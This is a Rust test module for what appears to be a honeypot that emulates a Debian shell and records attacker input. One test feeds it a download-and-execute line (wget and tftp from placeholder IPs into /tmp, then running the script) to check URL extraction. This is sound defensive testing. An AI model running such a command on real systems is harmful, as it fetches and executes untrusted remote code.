use std::net::SocketAddr;

use super::*;
use crate::logic::decky::Identity;
use crate::logic::event::{Kind, Value};
use crate::logic::persona;
use crate::logic::services::{Context, Reply, Report, State};
use crate::logic::time::Timestamp;

pub(super) const NOW: Timestamp = Timestamp(1_790_000_000_000_000_000);

/// A decky with its memory, and a visitor who looks at it.
pub(super) struct Bench {
    pub(super) decky: Identity,
    pub(super) state: State,
}

impl Bench {
    pub(super) fn new(persona: &str) -> Self {
        let persona = persona::find(persona).unwrap();
        let decky = Identity::sample(persona);
        Self { decky, state: State::default() }
    }

    pub(super) fn call<T>(
        &mut self,
        act: impl FnOnce(&mut Context<'_>, &mut Reply) -> T,
    ) -> (T, Reply) {
        let mut next = 7_u8;
        let mut random = |buffer: &mut [u8]| {
            for byte in buffer {
                next = next.wrapping_mul(5).wrapping_add(3);
                *byte = next;
            }
        };
        let mut context = Context {
            now: NOW,
            decky: &self.decky,
            state: &mut self.state,
            random: &mut random,
            local: SocketAddr::from(([192, 168, 7, 20], 22)),
            peer: SocketAddr::from(([192, 168, 7, 99], 51_000)),
        };
        let mut reply = Reply::default();
        let done = act(&mut context, &mut reply);
        (done, reply)
    }

    /// Runs a command line as root, and gives what it showed and its status.
    pub(super) fn run(&mut self, line: &str) -> (String, u8) {
        let (text, status, _) = self.run_as("root", line);
        (text, status)
    }

    pub(super) fn run_as(&mut self, user: &str, line: &str) -> (String, u8, Vec<Report>) {
        let mut console = Console::new(user, 80, 24).on_pipes();
        let (mut ended, reply) =
            self.call(|context, reply| console.exec(line.as_bytes(), context, reply));
        let (mut bytes, mut reports) = (reply.bytes, reply.reports);
        let mut first = true;
        while ended.is_none() {
            let (status, mut reply) = self.call(|context, reply| match first {
                true => console.end_of_input(context, reply),
                false => console.wake(context, reply),
            });
            first = false;
            ended = status;
            bytes.append(&mut reply.bytes);
            reports.append(&mut reply.reports);
        }
        (String::from_utf8_lossy(&bytes).into_owned(), ended.unwrap_or_default(), reports)
    }
}

/// Runs lines as root on a fresh Debian; each with what it shows.
pub(super) fn check(table: &[(&str, &str)]) {
    for (line, shown) in table {
        let (text, _) = Bench::new("debian-12").run(line);
        assert_eq!(text, *shown, "{line}");
    }
}

#[test]
fn a_line_is_reported_with_its_user_and_its_addresses() {
    let (_, _, reports) = Bench::new("debian-12")
        .run_as("root", "cd /tmp; wget http://1.2.3.4/x.sh; tftp -g -r y 5.6.7.8; sh x.sh");
    let [report] = reports.as_slice() else { panic!("{reports:?}") };
    assert_eq!(report.kind, Kind::CmdInput);
    assert_eq!(report.data.text("user"), Some("root"));
    assert!(report.data.text("command").unwrap().starts_with("cd /tmp; wget"));
    let urls = ["http://1.2.3.4/x.sh".to_owned(), "tftp://5.6.7.8/y".to_owned()];
    assert_eq!(report.data.value("urls"), Some(&Value::Texts(urls.to_vec())));
}
